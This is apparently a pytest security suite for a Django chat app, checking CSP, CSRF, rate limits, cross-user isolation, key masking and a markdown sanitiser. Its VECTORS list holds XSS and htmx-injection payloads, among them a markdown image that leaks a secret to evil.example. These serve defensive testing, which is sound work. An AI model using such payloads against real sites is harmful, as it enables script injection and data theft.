"""Security: the content policy, CSRF, the sanitiser, abuse limits, other users' data, keys.

Origin and owner checks on the chat socket are in test_consumers.py; `check --deploy` in
test_deploy.py; provider keys in log lines in test_views.py.
"""

import re
import uuid
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.template.loader import render_to_string
from django.test import Client
from django.urls import get_resolver, reverse
from django.utils import timezone
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from conversations import services
from conversations.errors import (
    ProviderRejected,
    SendRateLimited,
    TooManyReplies,
    ValidationFailed,
)
from conversations.models import ImportJob, Message, MessageStatus, Role
from conversations.presenters import MessageView, render_delta, render_message
from conversations.rendering import render_markdown
from tests.factories import (
    ApiTokenFactory,
    ConversationFactory,
    ConversationSummaryFactory,
    UsageRecordFactory,
    UserFactory,
    thread,
)
from tests.waits import wait_for_socket

ROOT = Path(__file__).resolve().parent.parent

# --- Content-Security-Policy -----------------------------------------------------------


def _policy(response) -> dict[str, str]:
    header = response["Content-Security-Policy"]
    return dict(part.strip().split(" ", 1) for part in header.split(";") if part.strip())


@pytest.mark.django_db
def test_pages_carry_a_policy_without_inline_script_or_style(client, user, conversation):
    client.force_login(user)
    for url in ("/accounts/login/", "/", f"/c/{conversation.uuid}/", "/usage/", "/settings/api/"):
        policy = _policy(client.get(url))
        assert policy["script-src"] == "'self'", url
        assert policy["style-src"] == "'self'", url
        assert policy["frame-ancestors"] == "'none'" and policy["base-uri"] == "'none'"
        assert policy["img-src"] == "'self' data:", "no remote image can load"


@pytest.mark.django_db
def test_api_docs_load_their_script_from_a_url_not_inline(client):
    response = client.get("/api/v1/docs/")
    html = response.content.decode()
    assert response.status_code == 200
    assert re.search(r"<script>\s*\S", html) is None, "no inline script"
    assert _policy(response)["script-src"] == "'self'"
    script = client.get("/api/v1/docs/?script=")
    assert script.status_code == 200 and "SwaggerUIBundle" in script.content.decode()


def test_templates_have_no_inline_script_style_or_handlers():
    offenders = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text()
        for pattern in (r"<script(?![^>]*\bsrc=)", r"\sstyle=", r"<style", r"\son[a-z]+="):
            if re.search(pattern, text):
                offenders.append(f"{path.relative_to(ROOT)}: {pattern}")
    assert offenders == []


# --- CSRF ------------------------------------------------------------------------------


def test_every_post_form_in_the_templates_carries_a_csrf_token():
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text()
        for form in re.findall(r"<form[^>]*method=\"post\".*?</form>", text, re.S | re.I):
            assert "{% csrf_token %}" in form, path


@pytest.mark.django_db
def test_posts_without_a_csrf_token_are_refused(user, conversation, chat_model):
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(user)
    posts = [
        reverse("conversation_new"),
        reverse("conversation_settings", args=[conversation.uuid]),
        reverse("summary_regenerate", args=[conversation.uuid]),
        reverse("attachment_upload", args=[conversation.uuid]),
        reverse("api_token_create"),
        reverse("api_import"),
        reverse("logout"),
    ]
    for url in posts:
        assert browser.post(url, {"model": chat_model.pk}).status_code == 403, url


@pytest.mark.django_db
def test_htmx_posts_send_the_token_in_a_header_and_pass(user, conversation, chat_model):
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(user)
    page = browser.get(f"/c/{conversation.uuid}/").content.decode()
    token = re.search(r'hx-headers=\'\{"X-CSRFToken": "([^"]+)"\}\'', page).group(1)
    response = browser.post(
        reverse("conversation_settings", args=[conversation.uuid]),
        {"model": chat_model.pk, "system_prompt": "Be brief."},
        HTTP_HX_REQUEST="true",
        HTTP_X_CSRFTOKEN=token,
    )
    assert response.status_code == 200
    conversation.refresh_from_db()
    assert conversation.system_prompt == "Be brief."


def test_production_cookies_are_secure_and_hsts_is_on():
    from tests.test_deploy import manage_command

    result = manage_command(
        "shell",
        "-c",
        "from django.conf import settings as s; print(s.SESSION_COOKIE_SECURE, "
        "s.CSRF_COOKIE_SECURE, s.SESSION_COOKIE_HTTPONLY, s.SECURE_HSTS_SECONDS > 0, "
        "s.SECURE_SSL_REDIRECT)",
        DEBUG="false",
        SECRET_KEY="y" * 50,
        ALLOWED_HOSTS="chat.example.com",
    )
    assert result.stdout.splitlines()[-1].split() == ["True"] * 5, result.stderr


# --- The sanitiser, on every path untrusted text takes ----------------------------------

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "[v](vbscript:msgbox)",
    "<a href='javascript:alert(1)'>x</a>",
    '<svg onload="alert(1)"><circle/></svg>',
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object>",
    "<style>body{display:none}</style>",
    "<form action='https://evil.example'><input name=a></form>",
    '<div hx-get="/api/v1/export/" hx-trigger="load">x</div>',
    '<span hx-post="/c/new/" hx-vals=\'{"message":"pwn"}\'>x</span>',
    '<p hx-on:click="alert(1)" data-hx-get="/x">x</p>',
    '<div ws-send ws-connect="/ws/c/x/">x</div>',
    '<p id="composer">clobber</p>',
    '<a id="messages" name="csrf">x</a>',
    '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
    "```html\n<script>alert(1)</script>\n```",
    "<!-- <script>alert(1)</script> -->",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;",
    "\"'><script>alert(1)</script>",
    "[a](https://ok.example 'title\" onmouseover=\"alert(1)')",
    "<details open ontoggle=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<https://evil.example/>",
]

payloads = (
    st.lists(
        st.one_of(
            st.sampled_from(VECTORS), st.text(max_size=12), st.sampled_from(["\n", "> ", "* "])
        ),
        min_size=1,
        max_size=8,
    )
    .map("".join)
    .filter(bool)
)

FORBIDDEN_TAGS = {
    "script", "img", "iframe", "object", "embed", "svg", "math", "style", "form", "input",
    "base", "meta", "link", "frame", "video", "audio", "source",
}  # fmt: skip
BAD_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.I)


class _Features(HTMLParser):
    """Everything in a piece of HTML that could run code, make htmx act or fetch a URL."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.found.append(("tag", tag))
        for name, value in attrs:
            risky = name.startswith(("on", "hx-", "data-hx-", "ws-")) or name in {"id", "style"}
            if risky or name in {"src", "srcset", "action", "formaction", "xlink:href"}:
                self.found.append((tag, name, value))
            if name == "href" and BAD_URL.match(value or ""):
                self.found.append((tag, name, value))


def _features(html: str) -> list[tuple]:
    return sorted(_Features(html).found, key=repr)


def _markdown_is_safe(html: str) -> None:
    assert _features(html) == [], html


def _message(role: str, status: str, content: str) -> str:
    fixed = "00000000-0000-0000-0000-000000000001"
    view = MessageView(
        uuid=fixed, role=role, status=status, content=content, reasoning=content, error_text=""
    )
    return render_message(view)


SUMMARY_CONTEXT = {
    "summary": SimpleNamespace(pk=1, model_name="m", created_at=timezone.now()),
    "conversation": SimpleNamespace(uuid=uuid.uuid4()),
}


def _summary(html: str) -> str:
    context = {**SUMMARY_CONTEXT, "summary_html": html}
    return render_to_string("conversations/_summary_divider.html", context)


PROPERTY = hsettings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROPERTY
@given(payloads)
def test_model_output_renders_without_script_htmx_ids_or_remote_fetches(text):
    _markdown_is_safe(render_markdown(text))
    # Through the message template, the payload adds nothing to the template's own markup.
    benign = _message(Role.ASSISTANT, MessageStatus.COMPLETE, "plain words")
    assert _features(_message(Role.ASSISTANT, MessageStatus.COMPLETE, text)) == _features(benign)
    assert _features(_message(Role.ASSISTANT, MessageStatus.STREAMING, text)) == _features(
        _message(Role.ASSISTANT, MessageStatus.STREAMING, "plain words")
    )


@PROPERTY
@given(payloads)
def test_user_input_is_shown_as_text(text):
    benign = _message(Role.USER, MessageStatus.COMPLETE, "plain words")
    assert _features(_message(Role.USER, MessageStatus.COMPLETE, text)) == _features(benign)
    # A streamed reasoning fragment: only the swap target is markup.
    reply = SimpleNamespace(uuid="r", content="")
    delta, _mark = render_delta(reply, text)
    assert _features(delta) == _features(render_delta(reply, "a")[0])


@PROPERTY
@given(payloads)
def test_summaries_render_without_script_htmx_ids_or_remote_fetches(text):
    html = render_markdown(text)
    _markdown_is_safe(html)
    assert _features(_summary(html)) == _features(_summary(render_markdown("plain words")))


def test_an_injected_markdown_image_fetches_nothing():
    html = render_markdown("Look: ![](https://evil.example/?q=secret) ok")
    assert "<img" not in html and "evil.example" not in html


# --- Abuse limits ----------------------------------------------------------------------


@pytest.mark.django_db
def test_sending_faster_than_the_per_minute_limit_is_refused_with_a_reason(
    settings, user, chat_model
):
    settings.SEND_RATE_LIMIT_PER_MINUTE = 3
    settings.MAX_REPLIES_IN_FLIGHT = 100
    for i in range(3):
        conversation = ConversationFactory(owner=user, chat_model=chat_model)
        services.message_send(conversation=conversation, content=f"hello {i}")
    conversation = ConversationFactory(owner=user, chat_model=chat_model)
    with pytest.raises(SendRateLimited, match="too quickly"):
        services.message_send(conversation=conversation, content="one more")
    assert not conversation.messages.exists()
    # Another user is not affected.
    theirs = ConversationFactory(owner=UserFactory(), chat_model=chat_model)
    services.message_send(conversation=theirs, content="hi")


@pytest.mark.django_db
def test_replies_in_flight_are_capped_per_user_across_conversations(settings, user, chat_model):
    settings.MAX_REPLIES_IN_FLIGHT = 2
    for i in range(2):
        conversation = ConversationFactory(owner=user, chat_model=chat_model)
        services.message_send(conversation=conversation, content=f"question {i}")
    conversation = ConversationFactory(owner=user, chat_model=chat_model)
    with pytest.raises(TooManyReplies, match="Wait for one to finish"):
        services.message_send(conversation=conversation, content="third")
    Message.objects.filter(role=Role.ASSISTANT).update(status=MessageStatus.COMPLETE)
    services.message_send(conversation=conversation, content="third")


async def test_the_socket_shows_the_rate_limit_as_a_notice(
    settings, fake_provider, transactional_db
):
    from channels.db import database_sync_to_async

    from tests.wsclient import ChatSocket

    settings.SEND_RATE_LIMIT_PER_MINUTE = 1
    owner, first, second = await database_sync_to_async(_two_conversations)()
    tab = ChatSocket(first, owner)
    await tab.connect()
    await tab.say("one", "k1")
    await tab.read_until_reply("complete")
    await tab.close()
    tab = ChatSocket(second, owner)
    await tab.connect()
    await tab.say("two", "k2")
    page = await tab.read_until(lambda page: any("too quickly" in n for n in page.notices))
    await tab.close()
    assert page.last("user") is None, "the refused message was not added"


def _two_conversations():
    from tests.factories import ChatModelFactory

    owner = UserFactory()
    model = ChatModelFactory()
    return (
        owner,
        ConversationFactory(owner=owner, chat_model=model),
        ConversationFactory(owner=owner, chat_model=model),
    )


@pytest.mark.django_db
def test_login_is_refused_after_repeated_failures_even_with_the_right_password(client, settings):
    settings.LOGIN_FAILURE_LIMIT = 3
    UserFactory(username="bob")
    for _ in range(3):
        response = client.post("/accounts/login/", {"username": "bob", "password": "wrong"})
        assert response.status_code == 200
    right = {"username": "Bob", "password": "correct horse battery"}
    response = client.post("/accounts/login/", right)
    assert response.status_code == 429
    assert b"Too many failed attempts to log in" in response.content
    # Another username from the same address still logs in.
    UserFactory(username="carol")
    response = client.post("/accounts/login/", {**right, "username": "carol"})
    assert response.status_code == 302


@pytest.mark.django_db
def test_a_successful_login_clears_the_failures(client, settings):
    settings.LOGIN_FAILURE_LIMIT = 2
    UserFactory(username="bob")
    client.post("/accounts/login/", {"username": "bob", "password": "wrong"})
    right = {"username": "bob", "password": "correct horse battery"}
    assert client.post("/accounts/login/", right).status_code == 302
    client.logout()
    client.post("/accounts/login/", {"username": "bob", "password": "wrong"})
    assert client.post("/accounts/login/", right).status_code == 302


@pytest.mark.django_db
def test_an_oversized_upload_is_refused_with_a_reason(client, user, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.API_IMPORT_MAX_BYTES = 1024
    client.force_login(user)
    big = SimpleUploadedFile("export.json", b"[" + b" " * 4096 + b"]", "application/json")
    response = client.post(reverse("api_import"), {"file": big})
    assert "The file is larger than 1\xa0KB." in response.content.decode()


@pytest.mark.django_db
def test_an_oversized_message_is_refused_with_a_reason(settings, conversation):
    settings.MESSAGE_MAX_CHARS = 10
    with pytest.raises(ValidationFailed, match=r"too long \(11 characters; the limit is 10\)"):
        services.message_send(conversation=conversation, content="x" * 11)
    assert not conversation.messages.exists()


async def test_an_oversized_socket_frame_is_refused_with_a_reason(conversation, transactional_db):
    from conversations.frames import MAX_FRAME_CHARS
    from tests.wsclient import ChatSocket

    tab = ChatSocket(conversation, conversation.owner)
    await tab.connect()
    big = '{"action": "send", "message": "' + "x" * MAX_FRAME_CHARS + '"}'
    await tab.communicator.send_to(text_data=big)
    page = await tab.read_until(lambda page: any("too large" in n for n in page.notices))
    await tab.close()
    assert page.last("user") is None


# --- Other users' data -----------------------------------------------------------------


def _owned_urls(conversation, summary, token, image, message) -> dict[str, tuple[str, str]]:
    """Every route that names one user's object, with the method that reaches it."""
    c = conversation.uuid
    return {
        "conversation": ("get", f"/c/{c}/"),
        "conversation_settings": ("post", f"/c/{c}/settings/"),
        "conversation_model": ("post", f"/c/{c}/model/"),
        "conversation_switches": ("post", f"/c/{c}/switches/"),
        "conversation_messages": ("get", f"/c/{c}/messages/?before={c}"),
        "message_open": ("post", f"/c/{c}/open/"),
        "message_full": ("get", f"/messages/{message.uuid}/"),
        "summary_regenerate": ("post", f"/c/{c}/summary/regenerate/"),
        "persona_save": ("post", f"/c/{c}/personas/"),
        "api:conversation": ("get", f"/api/v1/conversations/{c}/"),
        "api:conversation-messages": ("get", f"/api/v1/conversations/{c}/messages/"),
        "api:conversation-export": ("get", f"/api/v1/conversations/{c}/export/?format=json"),
        "api_token_revoke": ("post", f"/settings/api/tokens/{token.pk}/revoke/"),
        "attachment_upload": ("post", f"/c/{c}/attachments/"),
        "attachment": ("get", f"/attachments/{image.uuid}/"),
        "conversation_rename": ("post", f"/c/{c}/rename/"),
        "conversation_archive": ("post", f"/c/{c}/archive/"),
        "conversation_unarchive": ("post", f"/c/{c}/unarchive/"),
        "conversation_delete": ("post", f"/c/{c}/delete/"),
        # An import job: its uuid on the message object of the tuple (see victims_data).
        "api:import_job": ("get", f"/api/v1/imports/{message.job_uuid}/"),
        "api_import_job": ("get", f"/settings/api/imports/{message.job_uuid}/"),
    }


def _routes_with_ids() -> set[str]:
    names = set()

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                ns = f"{pattern.namespace}:" if pattern.namespace else namespace
                if pattern.namespace != "admin":
                    walk(pattern.url_patterns, ns)
            elif pattern.pattern.converters:
                names.add(namespace + pattern.name)

    walk(get_resolver().url_patterns)
    return names


@pytest.fixture
def victims_data(other_user, chat_model, settings, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MEDIA_ROOT = tmp_path
    theirs = ConversationFactory(owner=other_user, chat_model=chat_model, title="SECRET-TITLE")
    _, answer = thread(theirs, "SECRET-QUESTION", "SECRET-ANSWER")
    summary = ConversationSummaryFactory(conversation=theirs, text="SECRET-SUMMARY")
    token = ApiTokenFactory(user=other_user, name="SECRET-TOKEN")
    UsageRecordFactory(user=other_user, model_name="SECRET-MODEL", prompt_tokens=987654)
    image = services.attachment_upload(
        owner=other_user, upload=SimpleUploadedFile("a.gif", b"GIF89a SECRET-IMAGE")
    )
    job = ImportJob.objects.create(
        owner=other_user, file_name="SECRET-EXPORT.json", file_size=1, error="SECRET-ERROR"
    )
    answer.job_uuid = job.uuid
    return theirs, summary, token, image, answer


def test_every_route_that_names_an_object_is_in_the_cross_user_test():
    fake = SimpleNamespace(uuid=uuid.uuid4(), pk=1, job_uuid=uuid.uuid4())
    assert set(_owned_urls(fake, fake, fake, fake, fake)) == _routes_with_ids()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "route", sorted(_owned_urls(*[SimpleNamespace(uuid=1, pk=1, job_uuid=1)] * 5))
)
def test_another_users_objects_are_404_and_unchanged(client, user, victims_data, route):
    theirs, summary, token, image, answer = victims_data
    client.force_login(user)
    method, url = _owned_urls(theirs, summary, token, image, answer)[route]
    data = {
        "summary": summary.pk,
        "model": theirs.chat_model_id,
        "system_prompt": "pwned",
        "persona_name": "pwned",
        "thinking": "on",
    }
    response = getattr(client, method)(url, data) if method == "post" else client.get(url)
    if route == "api_token_revoke":  # answered on the user's own token list
        assert b"That token does not exist" in response.content
    else:
        assert response.status_code in (403, 404), (route, response.status_code)
    assert b"SECRET" not in _body(response)
    theirs.refresh_from_db()
    token.refresh_from_db()
    assert theirs.system_prompt == "" and token.revoked_at is None
    assert not theirs.thinking_enabled
    assert theirs.title == "SECRET-TITLE" and not theirs.archived
    summary.refresh_from_db()
    assert theirs.summaries.count() == 1


@pytest.mark.django_db
def test_pages_listing_a_users_things_show_only_theirs(client, user, victims_data):
    client.force_login(user)
    for url in ("/", "/usage/", "/settings/api/", "/api/v1/conversations/", "/api/v1/export/"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert b"SECRET" not in _body(response) and b"987" not in _body(response), url


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


# --- Keys never reach a page -----------------------------------------------------------


def test_a_provider_error_echoing_the_key_is_masked(fake_provider):
    from conversations.providers import embeddings
    from conversations.providers.catalogue import Credentials
    from tests.fake_provider import EmbeddingReply

    key = "sk-profile-key-0123456789"  # a key the environment does not know
    fake_provider.script_embeddings(
        EmbeddingReply(status=400, error_message=f"Invalid request for key {key}: bad parameter")
    )
    credentials = Credentials(api_key=key, base_url=fake_provider.base_url)
    with pytest.raises(ProviderRejected) as caught:
        embeddings.embed_texts(
            credentials, model="fake-embedder", texts=["hi"], dimensions=None, timeout=5.0
        )
    assert key not in caught.value.message and "***: bad parameter" in caught.value.message


async def test_the_reply_and_the_page_keep_only_the_masked_error(
    conversation, fake_provider, settings, transactional_db
):
    from channels.db import database_sync_to_async

    from tests.fake_provider import Reply
    from tests.wsclient import ChatSocket

    key = settings.PROVIDER_CREDENTIALS["local"]["api_key"]
    fake_provider.script(Reply(status=400, error_message=f"Key {key} may not use this model"))
    tab = ChatSocket(conversation, conversation.owner)
    await tab.connect()
    await tab.say("Question", "k1")
    page = await tab.read_until_reply("failed")
    await tab.close()
    reply = await database_sync_to_async(
        lambda: Message.objects.filter(conversation=conversation, role=Role.ASSISTANT).get()
    )()
    assert "may not use this model" in reply.error_text and key not in reply.error_text
    assert key not in page.last().html


# --- The policy in a real browser ------------------------------------------------------

RECORD_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__cspViolations.push(event.violatedDirective + " " + event.blockedURI);
});
"""


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_chat_page_streams_a_reply_with_no_policy_violations(
    browser_context, login, live_server_url, fake_provider
):
    from playwright.sync_api import expect

    from tests.factories import ChatModelFactory
    from tests.fake_provider import Reply

    owner = UserFactory()
    conversation = ConversationFactory(owner=owner, chat_model=ChatModelFactory())
    fake_provider.script(Reply(content="**Bold** and `code` and a [link](https://example.com)."))
    browser_context.add_init_script(RECORD_VIOLATIONS)
    console = []
    page = browser_context.new_page()
    page.on("console", lambda message: console.append(message.text))
    login(owner, page)
    response = page.goto(f"{live_server_url}/c/{conversation.uuid}/")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    wait_for_socket(page)
    page.locator("form#composer textarea[name=message]").fill("Hello")
    page.locator("form#composer textarea[name=message]").press("Enter")
    last = page.locator("#messages [data-role=assistant]:last-child")
    expect(last).to_have_attribute("data-status", "complete", timeout=15_000)
    expect(last.locator("strong")).to_have_text("Bold")
    assert page.evaluate("window.__cspViolations") == []
    assert not [text for text in console if "Content Security Policy" in text]
